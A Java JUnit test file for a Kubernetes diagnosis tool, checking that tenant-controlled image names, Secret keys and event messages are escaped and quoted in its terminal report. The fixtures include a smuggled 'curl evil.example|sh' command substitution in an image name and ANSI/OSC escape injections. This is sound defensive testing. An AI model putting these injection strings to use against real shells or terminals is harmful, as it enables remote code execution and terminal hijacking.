package io.pullwarden.agent.diagnose;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.pullwarden.agent.diagnose.Subject.ContainerImage;
import java.time.Clock;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The text report on what tenants control (an image, Secret keys, Event messages): control
 * characters are shown, not sent to the terminal, and printed commands quote what they name.
 */
class DiagnosisReportTest {

  private static final String IMAGE = "r$(curl -s evil.example|sh).io/app:1";

  static Stream<Arguments> texts() {
    return Stream.of(
        arguments("ESC (ANSI colour)", "\u001b[31mred", "\\x1b[31mred"),
        arguments("OSC 52 clipboard, BEL", "\u001b]52;c;cHdu\u0007", "\\x1b]52;c;cHdu\\x07"),
        arguments("newline, CR, tab", "a\nb\rc\td", "a\\x0ab\\x0dc\\x09d"),
        arguments("NUL", "a\u0000b", "a\\x00b"),
        arguments("DEL", "a\u007fb", "a\\x7fb"),
        arguments("C1", "a\u009bb\u0080c\u009fd", "a\\x9bb\\x80c\\x9fd"),
        arguments("printable", "é ~ \u00a0ü \\x1b", "é ~ \u00a0ü \\x1b"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("texts")
  void controlCharactersAreShownEscaped(String what, String text, String shown) {
    assertThat(DiagnosisReport.visible(text)).isEqualTo(shown);
  }

  @Test
  void aTenantsImageKeyAndEventReachTheTerminalQuotedAndEscaped() {
    FakeCluster cluster = new FakeCluster();
    // JSON escapes: the auths key holds a real ESC and BEL once the Secret is read.
    cluster.pullSecret("team", "regcred", "unused-pw", "evil\\u001b]0;owned\\u0007.io");
    cluster.event("Failed", "Failed to pull image \"" + IMAGE + "\": \u001b[2J\u009b31m gone");
    Subject subject =
        new Subject(
            "team",
            Optional.of("web"),
            "default",
            List.of("regcred"),
            List.of(new ContainerImage("app", IMAGE)),
            true);

    String report =
        DiagnosisReport.text(
            new Diagnoser(cluster, Clock.systemUTC(), RegistryLoginCheck.NOT_CHECKED)
                .diagnose(subject));

    assertThat(report.chars().filter(c -> c < 0x20 && c != '\n' || c >= 0x7f && c <= 0x9f))
        .as(report)
        .isEmpty();
    assertThat(report)
        .contains("evil\\x1b]0;owned\\x07.io")
        .contains(
            "kubectl create secret docker-registry regcred -n team"
                + " --docker-server='r$(curl -s evil.example|sh).io' --docker-username=USER");
  }
}
